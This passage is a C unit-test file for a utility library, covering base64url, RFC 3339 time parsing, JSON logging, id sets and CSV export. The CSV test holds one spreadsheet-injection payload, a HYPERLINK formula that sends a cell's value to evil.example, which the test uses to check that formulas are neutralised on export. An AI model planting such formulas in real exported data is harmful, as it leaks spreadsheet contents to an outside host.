		if (memchr(utf8_cases[i].s, 0, utf8_cases[i].len))
			continue; /* NUL is valid for JSON, not for utf8_valid */
		buf_reset(&b);
		assert_int_equal(json_escape_into(&b, utf8_cases[i].s, utf8_cases[i].len), SW_OK);
		if (utf8_cases[i].ok) {
			assert_int_equal(b.len, utf8_cases[i].len);
			assert_memory_equal(b.ptr, utf8_cases[i].s, b.len);
		} else {
			assert_non_null(strstr(buf_cstr(&b), "\\ufffd"));
		}
		assert_true(utf8_valid(b.ptr ? b.ptr : "", b.len));
	}
	buf_release(&b);
}

/* ---- base64url ----------------------------------------------------------- */

static void base64(void **state)
{
	(void)state;
	static const struct {
		const char *in;
		size_t len;
		const char *want;
	} vectors[] = {
		{"", 0, ""},
		{"f", 1, "Zg"},
		{"fo", 2, "Zm8"},
		{"foo", 3, "Zm9v"},
		{"foob", 4, "Zm9vYg"},
		{"fooba", 5, "Zm9vYmE"},
		{"foobar", 6, "Zm9vYmFy"},
		{"\xff\xfe\x00\x01", 4, "__4AAQ"},
		{"\xfb\xff", 2, "-_8"},
	};
	for (size_t i = 0; i < COUNT(vectors); i++) {
		char enc[32];
		base64url_encode((const unsigned char *)vectors[i].in, vectors[i].len, enc);
		assert_string_equal(enc, vectors[i].want);
		assert_int_equal(strlen(enc), base64url_len(vectors[i].len));
		unsigned char dec[32];
		assert_int_equal(base64url_decode(enc, strlen(enc), dec, sizeof(dec)), (long)vectors[i].len);
		assert_memory_equal(dec, vectors[i].in, vectors[i].len);
	}

	/* round trips of every length up to 64 and every byte value */
	unsigned char raw[64], dec[64];
	char enc[100];
	for (size_t n = 0; n <= sizeof(raw); n++) {
		for (size_t i = 0; i < n; i++)
			raw[i] = (unsigned char)(i * 37 + n * 11);
		base64url_encode(raw, n, enc);
		assert_int_equal(strlen(enc), base64url_len(n));
		assert_null(strpbrk(enc, "+/="));
		assert_int_equal(base64url_decode(enc, strlen(enc), dec, n), (long)n); /* out_max exactly n */
		assert_memory_equal(dec, raw, n);
		if (n > 0) /* one byte short of room */
			assert_int_equal(base64url_decode(enc, strlen(enc), dec, n - 1), -1);
	}

	static const char *invalid[] = {
		"Zm9v=",                      /* padding */
		"Zg==",                       /* padding */
		"Zm+v",                       /* standard alphabet, not url-safe */
		"Zm/v",   "Zm9 v",            /* whitespace */
		"Zm9v\n", "Zm.v",  "Zm\x80v", /* non-ASCII */
		"Z",                          /* impossible length */
		"Zm9vY",  "Zh",               /* non-zero unused bits */
		"Zm9",
	};
	for (size_t i = 0; i < COUNT(invalid); i++)
		if (base64url_decode(invalid[i], strlen(invalid[i]), dec, sizeof(dec)) != -1)
			fail_msg("base64url_decode accepted \"%s\"", invalid[i]);
	assert_int_equal(base64url_decode("Zm\0v", 4, dec, sizeof(dec)), -1); /* embedded NUL */
	memset(dec, 0x5a, sizeof(dec));
	assert_int_equal(base64url_decode("Zm9vYmFy", 8, dec, 5), -1); /* does not fit */
	assert_int_equal(dec[0], 0x5a);                                /* and nothing written */
}

/* ---- RFC 3339 ------------------------------------------------------------ */

static void rfc3339_format(void **state)
{
	(void)state;
	static const struct {
		int64_t epoch;
		const char *want;
	} cases[] = {
		{0, "1970-01-01T00:00:00Z"},
		{-1, "1969-12-31T23:59:59Z"},
		{1795570666, "2026-11-25T01:37:46Z"},
		{951782400, "2000-02-29T00:00:00Z"},
		{-62167219200, "0000-01-01T00:00:00Z"}, /* first RFC 3339 second */
		{-62167219201, "0000-01-01T00:00:00Z"}, /* clamped */
		{-30610224000, "1000-01-01T00:00:00Z"},
		{-30610224001, "0999-12-31T23:59:59Z"}, /* four digits, zero padded */
		{253402300799, "9999-12-31T23:59:59Z"}, /* last RFC 3339 second */
		{253402300800, "9999-12-31T23:59:59Z"}, /* clamped */
		{INT64_MIN, "0000-01-01T00:00:00Z"},
		{INT64_MAX, "9999-12-31T23:59:59Z"},
	};
	for (size_t i = 0; i < COUNT(cases); i++) {
		char s[21];
		memset(s, 'x', sizeof(s));
		time_format_rfc3339(cases[i].epoch, s);
		assert_string_equal(s, cases[i].want);
	}
	/* format -> parse round trip across the whole range */
	for (int64_t t = -62167219200; t <= 253402300799; t += 86400 * 97 + 3607) {
		char s[21];
		int64_t back = 0;
		time_format_rfc3339(t, s);
		assert_int_equal(time_parse_rfc3339(s, 20, &back), SW_OK);
		assert_int_equal(back, t);
	}
}

static void rfc3339_parse(void **state)
{
	(void)state;
	static const struct {
		const char *s;
		enum sw_err rc;
		int64_t want;
	} cases[] = {
		{"2026-11-25T01:37:46Z", SW_OK, 1795570666},
		{"2026-11-25t01:37:46z", SW_OK, 1795570666},
		{"2026-11-25T02:37:46+01:00", SW_OK, 1795570666},
		{"2026-11-24T20:37:46-05:00", SW_OK, 1795570666},
		{"2026-11-25T07:07:46+05:30", SW_OK, 1795570666},
		{"2026-11-25T01:37:46+00:00", SW_OK, 1795570666},
		{"2026-11-25T01:37:46-00:00", SW_OK, 1795570666},
		{"2026-11-26T01:36:46+23:59", SW_OK, 1795570666},
		{"2026-11-25T01:37:46.999Z", SW_OK, 1795570666},
		{"2026-11-25T01:37:46.1+00:00", SW_OK, 1795570666},
		{"2026-11-25T01:37:46.123456789Z", SW_OK, 1795570666},
		{"2026-01-01T00:30:00+01:00", SW_OK, 1767223800}, /* 2025-12-31T23:30:00Z */
		{"1970-01-01T00:00:00Z", SW_OK, 0},
		{"1969-12-31T23:59:59Z", SW_OK, -1},
		{"2024-02-29T00:00:00Z", SW_OK, 1709164800},
		{"2000-02-29T00:00:00Z", SW_OK, 951782400},  /* divisible by 400: leap */
		{"2016-12-31T23:59:60Z", SW_OK, 1483228799}, /* leap second read as :59 */
		{"2026-12-31T23:59:59Z", SW_OK, 1798761599},
		{"2026-02-29T00:00:00Z", SW_EINVALID, 0},
		{"1900-02-29T00:00:00Z", SW_EINVALID, 0}, /* divisible by 100: not leap */
		{"2026-02-30T00:00:00Z", SW_EINVALID, 0},
		{"2026-04-31T00:00:00Z", SW_EINVALID, 0},
		{"2026-13-01T00:00:00Z", SW_EINVALID, 0},
		{"2026-00-01T00:00:00Z", SW_EINVALID, 0},
		{"2026-01-00T00:00:00Z", SW_EINVALID, 0},
		{"2026-01-32T00:00:00Z", SW_EINVALID, 0},
		{"2026-01-01T24:00:00Z", SW_EINVALID, 0},
		{"2026-01-01T23:60:00Z", SW_EINVALID, 0},
		{"2026-01-01T23:59:61Z", SW_EINVALID, 0},
		{"2026-01-01T00:00:00+24:00", SW_EINVALID, 0},
		{"2026-01-01T00:00:00+01:60", SW_EINVALID, 0},
		{"2026-01-01T00:00:00+1:00", SW_EINVALID, 0},
		{"2026-01-01T00:00:00+0100", SW_EINVALID, 0},
		{"2026-01-01T00:00:00+01:00Z", SW_EINVALID, 0},
		{"2026-01-01T00:00:00", SW_EINVALID, 0},
		{"2026-01-01 00:00:00Z", SW_EINVALID, 0},
		{"2026-01-01T00:00:00.Z", SW_EINVALID, 0},
		{"2026-01-01T00:00:00,5Z", SW_EINVALID, 0},
		{"2026-01-01T00:00:00Zjunk", SW_EINVALID, 0},
		{"2026-01-01T00:00:00ZZ", SW_EINVALID, 0},
		{"2026-1-01T00:00:00Z", SW_EINVALID, 0},
		{"+2026-01-01T00:00:00Z", SW_EINVALID, 0},
		{"2026-01-01T0a:00:00Z", SW_EINVALID, 0},
		{"2026-01-01", SW_EINVALID, 0},
		{"", SW_EINVALID, 0},
	};
	for (size_t i = 0; i < COUNT(cases); i++) {
		int64_t out = -12345;
		enum sw_err rc = time_parse_rfc3339(cases[i].s, strlen(cases[i].s), &out);
		if (rc != cases[i].rc)
			fail_msg("time_parse_rfc3339(\"%s\") returned %d", cases[i].s, (int)rc);
		if (rc)
			assert_int_equal(out, -12345);
		else if (out != cases[i].want)
			fail_msg("time_parse_rfc3339(\"%s\") = %lld", cases[i].s, (long long)out);
	}
	/* only len bytes are read */
	int64_t out = 0;
	assert_int_equal(time_parse_rfc3339("2026-11-25T01:37:46Zxx", 20, &out), SW_OK);
	assert_int_equal(out, 1795570666);
	assert_int_equal(time_parse_rfc3339("2026-11-25T01:37:46Z", 19, &out), SW_EINVALID);
}

static void clocks(void **state)
{
	(void)state;
	int64_t now = time_now();
	assert_true(now > 1700000000); /* after 2023 */
	int64_t a = time_mono_ns(), b = time_mono_ns();
	assert_true(a > 0);
	assert_true(b >= a);
}

/* ---- search words ----------------------------------------------------------- */

/* The words of s joined with '|' into out. */
static void words_of(const char *s, char *out, size_t max)
{
	size_t pos = 0, start, len, j = 0;
	out[0] = 0;
	while (text_word_next(s, strlen(s), &pos, &start, &len)) {
		j += (size_t)snprintf(out + j, max - j, "%s%.*s", j ? "|" : "", (int)len, s + start);
		assert_true(j < max);
	}
}

static void search_words(void **state)
{
	(void)state;
	static const struct {
		const char *in, *words;
	} cases[] = {
		{"", ""},
		{"   ", ""},
		{"printer", "printer"},
		{"  Printer jam ", "Printer|jam"},
		{"VPN-gateway/eu_west:443", "VPN|gateway|eu|west|443"},
		{"\"quoted\" NEAR(a b) -x *y* 'z'", "quoted|NEAR|a|b|x|y|z"},
		{"INC0000123", "INC0000123"},
		{"caf\xc3\xa9 na\xc3\xafve", "caf\xc3\xa9|na\xc3\xafve"},    /* é, ï are letters */
		{"\xe2\x80\x9cquoted\xe2\x80\x9d\xe2\x80\x94x", "quoted|x"}, /* “ ” — separate */
		{"a\xc2\xa0"
		 "b\xc2\xab"
		 "c\xc2\xbb"
		 "\xc3\x97"
		 "d",
		 "a|b|c|d"},                                              /* nbsp « » x */
		{"\xf0\x9f\x99\x82", ""},                                 /* an emoji alone */
		{"\xe6\x97\xa5\xe6\x9c\xac", "\xe6\x97\xa5\xe6\x9c\xac"}, /* CJK */
		{"x\xffy\xc3", "x|y"},                                    /* invalid UTF-8 */
		{"%_\\;--/**/", ""},
	};
	char got[256];
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		words_of(cases[i].in, got, sizeof(got));
		if (strcmp(got, cases[i].words) != 0)
			fail_msg("words of \"%s\": got \"%s\", want \"%s\"", cases[i].in, got, cases[i].words);
	}
	/* a word may end the input, and the position never goes backwards */
	size_t pos = 0, start = 99, len = 99;
	assert_true(text_word_next("ab", 2, &pos, &start, &len));
	assert_int_equal(start, 0);
	assert_int_equal(len, 2);
	assert_false(text_word_next("ab", 2, &pos, &start, &len));
	assert_int_equal(pos, 2);
}

/* ---- comparison, hex, errors --------------------------------------------- */

static void misc(void **state)
{
	(void)state;
	assert_true(ct_equal("abcd", "abcd", 4));
	assert_false(ct_equal("abcd", "abce", 4)); /* last byte */
	assert_false(ct_equal("abcd", "xbcd", 4)); /* first byte */
	assert_false(ct_equal("ab\0d", "ab\0e", 4));
	assert_true(ct_equal("ab\0d", "ab\0d", 4)); /* not stopped by NUL */
	assert_true(ct_equal("x", "y", 0));
	assert_true(ct_equal(NULL, NULL, 0));
	char hex[9];
	hex_encode((const unsigned char *)"\x00\xff\x10\xab", 4, hex);
	assert_string_equal(hex, "00ff10ab");
	hex_encode((const unsigned char *)"", 0, hex);
	assert_string_equal(hex, "");
	assert_true(str_eq("abc", 3, "abc"));
	assert_false(str_eq("abc", 2, "abc"));
	assert_false(str_eq("abd", 3, "abc"));
	assert_true(str_eq(NULL, 0, ""));
	assert_false(str_eq(NULL, 0, "a"));
	struct sw_error err;
	sw_error_clear(&err);
	for (int i = 0; i < SW_FIELD_ERRORS_MAX + 3; i++)
		sw_field_fail(&err, "f", "bad %d", i);
	assert_int_equal(err.code, SW_EINVALID);
	assert_int_equal(err.field_count, SW_FIELD_ERRORS_MAX);
	assert_int_equal(err.field_dropped, 3);
	assert_string_equal(err.fields[1].detail, "bad 1");
	assert_string_equal(sw_err_name(SW_ESTALE), "stale-version");
	assert_string_equal(sw_err_name((enum sw_err)999), "internal");
}

/* ---- log ----------------------------------------------------------------- */

/* Run log_msg with stderr redirected to a temporary file; return what it wrote. */
static size_t captured(char *out, size_t out_max, int fd, int saved)
{
	assert_int_equal(dup2(saved, STDERR_FILENO), STDERR_FILENO);
	close(saved);
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	ssize_t n = read(fd, out, out_max - 1);
	assert_true(n >= 0);
	out[n] = 0;
	close(fd);
	return (size_t)n;
}

static int redirect(int *saved)
{
	char path[] = "/tmp/test_base_log_XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	unlink(path);
	fflush(stderr);
	*saved = dup(STDERR_FILENO);
	assert_true(*saved >= 0);
	assert_int_equal(dup2(fd, STDERR_FILENO), STDERR_FILENO);
	return fd;
}

static void log_lines(void **state)
{
	(void)state;
	static char out[64 * 1024];
	int saved, fd;

	assert_string_equal(log_level_name(LOG_WARN), "warn");
	assert_string_equal(log_level_name((enum log_level)42), "info");
	assert_int_equal(log_get_level(), LOG_INFO); /* the default */

	fd = redirect(&saved);
	log_msg(LOG_DEBUG, "hidden", (char *)0);
	log_msg(LOG_WARN, "say \"hi\"\n", "s", LOG_STR, "v\x01", "n", LOG_INT, (int64_t)-5, "big", LOG_INT, INT64_MAX,
		"z", LOG_STR, (char *)NULL, (char *)0);
	size_t n = captured(out, sizeof(out), fd, saved);

	/* {"time":"2026-01-02T03:04:05.123Z","level":"warn",... one line */
	static const char head[] = "{\"time\":\"";
	assert_true(n > sizeof(head) + 24);
	assert_memory_equal(out, head, sizeof(head) - 1);
	const char *stamp = out + sizeof(head) - 1;
	assert_int_equal(stamp[19], '.');
	for (int i = 20; i < 23; i++)
		assert_true(stamp[i] >= '0' && stamp[i] <= '9');
	assert_int_equal(stamp[23], 'Z');
	char whole[21];
	memcpy(whole, stamp, 19);
	memcpy(whole + 19, "Z", 2);
	int64_t t = 0;
	assert_int_equal(time_parse_rfc3339(whole, 20, &t), SW_OK);
	assert_true(t >= time_now() - 5 && t <= time_now() + 1); /* time() may lag the log's clock_gettime by a tick */
	assert_string_equal(stamp + 24, "\",\"level\":\"warn\",\"msg\":\"say \\\"hi\\\"\\n\",\"s\":\"v\\u0001\","
					"\"n\":-5,\"big\":9223372036854775807,\"z\":null}\n");

	/* level changes; out-of-range levels are ignored */
	log_set_level(LOG_ERROR);
	log_set_level((enum log_level)99);
	assert_int_equal(log_get_level(), LOG_ERROR);
	fd = redirect(&saved);
	log_warn("hidden");
	log_error("shown");
	n = captured(out, sizeof(out), fd, saved);
	assert_non_null(strstr(out, "\"level\":\"error\",\"msg\":\"shown\"}\n"));
	assert_null(strstr(out, "hidden"));
	assert_int_equal(strchr(out, '\n') - out + 1, (long)n); /* exactly one line */
	log_set_level(LOG_INFO);

	/* a line over the limit is cut to its message, not dropped */
	static char longmsg[20001];
	memset(longmsg, 'a', sizeof(longmsg) - 1);
	longmsg[1023] = (char)0xc3; /* a character straddling the cut */
	longmsg[1024] = (char)0xa9;
	fd = redirect(&saved);
	log_msg(LOG_INFO, longmsg, "k", LOG_STR, "v", (char *)0);
	n = captured(out, sizeof(out), fd, saved);
	const char *msg = strstr(out, "\"msg\":\"");
	assert_non_null(msg);
	msg += 7;
	const char *end = strchr(msg, '"');
	assert_non_null(end);
	assert_int_equal(end - msg, 1023); /* cut before the é, not inside it */
	assert_string_equal(end, "\",\"log_truncated\":true}\n");
	assert_null(strstr(out, "\"k\""));
	assert_true(utf8_valid(out, n));
}

/* ---- idset ---------------------------------------------------------------- */

static void idset_empty_and_order(void **state)
{
	(void)state;
	struct idset s = IDSET_INIT(1024);
	assert_false(idset_has(&s, 0));
	assert_false(idset_has(&s, INT64_MIN));
	assert_int_equal(idset_add(&s, 10), SW_OK);
	assert_int_equal(idset_add(&s, 10), SW_EINVALID); /* equal: refused */
	assert_int_equal(idset_add(&s, 9), SW_EINVALID);  /* lower: refused */
	assert_int_equal(s.count, 1);
	assert_true(idset_has(&s, 10));
	assert_false(idset_has(&s, 9));
	assert_false(idset_has(&s, 11));
	idset_release(&s);
	assert_int_equal(s.count, 0);
	assert_int_equal(s.max_bytes, 1024); /* kept */
	assert_false(idset_has(&s, 10));
	idset_release(&s);                          /* a released set is fine */
	assert_int_equal(idset_add(&s, -5), SW_OK); /* and can be filled again */
	assert_true(idset_has(&s, -5));
	idset_release(&s);
}

static void idset_extremes(void **state)
{
	(void)state;
	/* sparse: stays an array, and the range arithmetic does not overflow */
	struct idset s = IDSET_INIT(1 << 20);
	const int64_t ids[] = {INT64_MIN, -1, 0, 1, INT64_MAX / 2, INT64_MAX};
	for (size_t i = 0; i < COUNT(ids); i++)
		assert_int_equal(idset_add(&s, ids[i]), SW_OK);
	assert_null(s.bits);
	for (size_t i = 0; i < COUNT(ids); i++)
		assert_true(idset_has(&s, ids[i]));
	assert_false(idset_has(&s, INT64_MIN + 1));
	assert_false(idset_has(&s, 2));
	assert_false(idset_has(&s, INT64_MAX - 1));
	int64_t id = 42;
	assert_true(idset_first(&s, &id));
	assert_int_equal(id, INT64_MIN);
	assert_true(idset_next(&s, INT64_MIN, &id));
	assert_int_equal(id, -1);
	assert_true(idset_next(&s, INT64_MAX / 2, &id));
	assert_int_equal(id, INT64_MAX);
	assert_false(idset_next(&s, INT64_MAX, &id));
	assert_int_equal(id, INT64_MAX); /* untouched */
	idset_release(&s);
	assert_false(idset_first(&s, &id));
	assert_false(idset_next(&s, 0, &id));
	/* a bitmap at the top of the range */
	s = IDSET_INIT(1 << 20);
	for (int64_t i = 300; i >= 0; i -= 1)
		if (i % 3 == 0)
			assert_int_equal(idset_add(&s, INT64_MAX - i), SW_OK);
	assert_non_null(s.bits);
	assert_true(idset_has(&s, INT64_MAX - 99));
	assert_false(idset_has(&s, INT64_MAX - 100));
	assert_true(idset_next(&s, INT64_MAX - 1, &id));
	assert_int_equal(id, INT64_MAX);
	assert_false(idset_next(&s, INT64_MAX, &id));
	idset_release(&s);
}

/* The set against a plain list of the same ids, for one density: every id
 * of the range and just outside it is asked. */
static void idset_check_density(int64_t first, int64_t n, unsigned every, bool bitmap)
{
	struct idset s = IDSET_INIT(1 << 20);
	unsigned char *in = calloc((size_t)n, 1);
	assert_non_null(in);
	uint64_t r = 0x9e3779b97f4a7c15u;
	for (int64_t i = 0; i < n; i++) {
		r ^= r << 13, r ^= r >> 7, r ^= r << 17;
		if (r % every == 0) {
			in[i] = 1;
			assert_int_equal(idset_add(&s, first + i), SW_OK);
		}
	}
	assert_true(bitmap ? s.bits != NULL : s.bits == NULL);
	for (int64_t i = -70; i < n + 70; i++)
		assert_int_equal(idset_has(&s, first + i), i >= 0 && i < n && in[i]);
	/* walked in order, it gives exactly the ids added */
	int64_t id = 0, expect = -1, seen = 0;
	for (bool more = idset_first(&s, &id); more; more = idset_next(&s, id, &id)) {
		while (!in[++expect])
			;
		assert_int_equal(id, first + expect);
		seen++;
	}
	assert_int_equal(seen, (int64_t)s.count);
	/* and from any point */
	for (int64_t i = -3; i < n + 3; i += 997) {
		int64_t j = i < 0 ? 0 : i + 1;
		while (j < n && !in[j])
			j++;
		bool found = idset_next(&s, first + i, &id);
		assert_int_equal(found, j < n);
		if (found)
			assert_int_equal(id, first + j);
	}
	free(in);
	idset_release(&s);
}

static void idset_array_and_bitmap(void **state)
{
	(void)state;
	idset_check_density(1, 100000, 1, true);                  /* every id: a bitmap */
	idset_check_density(1000, 100000, 15, true);              /* one in 15, like "printer": a bitmap */
	idset_check_density(-50000, 100000, 40, true);            /* across zero */
	idset_check_density(7, 1000000, 5000, false);             /* one in 5000: an array */
	idset_check_density(INT64_MAX - 200100, 200000, 3, true); /* near the top of the range */
}

static void idset_limits(void **state)
{
	(void)state;
	/* array mode: 8 bytes an id; 64 ids fit in 512 bytes, the 65th does not */
	struct idset s = IDSET_INIT(64 * sizeof(int64_t));
	for (int64_t i = 0; i < 64; i++)
		assert_int_equal(idset_add(&s, i * 1000000), SW_OK);
	assert_int_equal(idset_add(&s, 64 * 1000000), SW_ETOOLARGE);
	assert_int_equal(s.count, 64); /* unchanged */
	assert_int_equal(s.last, 63 * 1000000);
	assert_true(idset_has(&s, 63 * 1000000));
	assert_false(idset_has(&s, 64 * 1000000));
	idset_release(&s);
	/* bitmap mode: 512 bytes hold the ids base .. base + 4095 */
	s = IDSET_INIT(512);
	for (int64_t i = 0; i < 4096; i += 2)
		assert_int_equal(idset_add(&s, 100 + i), SW_OK);
	assert_non_null(s.bits);
	assert_int_equal(idset_add(&s, 100 + 4095), SW_OK);        /* the last bit of max_bytes */
	assert_int_equal(idset_add(&s, 100 + 4096), SW_ETOOLARGE); /* one past */
	assert_int_equal(s.last, 100 + 4095);
	assert_false(idset_has(&s, 100 + 4096));
	assert_true(idset_has(&s, 100 + 4094));
	assert_false(idset_has(&s, 100 + 4093));
	idset_release(&s);
	/* no room at all */
	s = IDSET_INIT(0);
	assert_int_equal(idset_add(&s, 1), SW_ETOOLARGE);
	assert_int_equal(s.count, 0);
	assert_false(idset_has(&s, 1));
	idset_release(&s);
}

/* Cells a spreadsheet would run as formulas are written behind an
 * apostrophe (CSV injection); numbers are not; the reader takes the mark
 * off, so what is exported imports back as it was. */
struct csv_got {
	char cells[8][128];
	size_t count;
};
static int csv_keep(void *arg, const char *const *fields, size_t count, int64_t record)
{
	(void)record;
	struct csv_got *g = arg;
	for (size_t i = 0; i < count && i < 8; i++)
		snprintf(g->cells[i], sizeof(g->cells[i]), "%s", fields[i]);
	g->count = count;
	return 0;
}

/* The record in b read back: its n cells are cells. */
static void csv_reads_back(const struct buf *b, const char *const *cells, size_t n)
{
	struct csv c;
	csv_init(&c);
	struct csv_got got = {0};
	struct sw_error err;
	sw_error_clear(&err);
	assert_int_equal(csv_feed(&c, b->ptr, b->len, true, csv_keep, &got, &err), SW_OK);
	assert_int_equal(got.count, n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(got.cells[i], cells[i]);
	csv_release(&c);
}

static void csv_formulas(void **state)
{
	(void)state;
	const char *cells[] = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
			       "+1+2",
			       "-5",
			       "-12.5",
			       "@SUM(A1)",
			       "plain, text",
			       "\tcmd",
			       "-"};
	struct buf b;
	buf_init(&b, 4096);
	assert_int_equal(csv_record(&b, cells, 8), SW_OK);
	assert_string_equal(buf_cstr(&b),
			    "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"'+1+2\",-5,-12.5,"
			    "\"'@SUM(A1)\",\"plain, text\",\"'\tcmd\",\"'-\"\r\n");
	csv_reads_back(&b, cells, 8);
	/* an apostrophe before anything else is the cell's own */
	buf_reset(&b);
	const char *own[] = {"'quoted'", "'5", "'=SUM(A1)", "'-- draft", "''@x", "'-5"};
	assert_int_equal(csv_record(&b, own, 6), SW_OK);
	assert_string_equal(buf_cstr(&b), "'quoted','5,\"''=SUM(A1)\",\"''-- draft\",\"'''@x\",'-5\r\n");
	csv_reads_back(&b, own, 6);
	buf_release(&b);
}

/* utf8_cut: at most max bytes, never inside a sequence. */
static void utf8_cuts(void **state)
{
	(void)state;
	const char *s = "a\xc3\xa9\xe2\x82\xac\xf0\x9f\x94\x91z"; /* a é € 🔑 z: 1 + 2 + 3 + 4 + 1 bytes */
	size_t len = strlen(s);
	const size_t want[] = {0, 1, 1, 3, 3, 3, 6, 6, 6, 6, 10, 11};
	for (size_t max = 0; max <= len; max++)
		assert_int_equal(utf8_cut(s, len, max), want[max]);
	assert_int_equal(utf8_cut(s, len, 100), len);
	assert_int_equal(utf8_cut("", 0, 0), 0);
	assert_int_equal(utf8_cut(NULL, 0, 5), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(buf_limits),
		cmocka_unit_test(buf_unchanged_on_failure),
		cmocka_unit_test(buf_lifecycle),
		cmocka_unit_test(arena_cap),
		cmocka_unit_test(arena_small_cap),
		cmocka_unit_test(arena_defers),
		cmocka_unit_test(arena_alignment_and_zero),
		cmocka_unit_test(json_writer),
		cmocka_unit_test(json_writer_plain),
		cmocka_unit_test(json_reals),
		cmocka_unit_test(json_nesting),
		cmocka_unit_test(json_escaping),
		cmocka_unit_test(json_escaping_matches_jansson),
		cmocka_unit_test(json_integers),
		cmocka_unit_test(int_parsing),
		cmocka_unit_test(utf8),
		cmocka_unit_test(utf8_matches_json),
		cmocka_unit_test(base64),
		cmocka_unit_test(rfc3339_format),
		cmocka_unit_test(rfc3339_parse),
		cmocka_unit_test(clocks),
		cmocka_unit_test(misc),
		cmocka_unit_test(csv_formulas),
		cmocka_unit_test(search_words),
		cmocka_unit_test(log_lines),
		cmocka_unit_test(idset_empty_and_order),
		cmocka_unit_test(idset_extremes),
		cmocka_unit_test(idset_array_and_bitmap),
		cmocka_unit_test(idset_limits),
		cmocka_unit_test(utf8_cuts),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
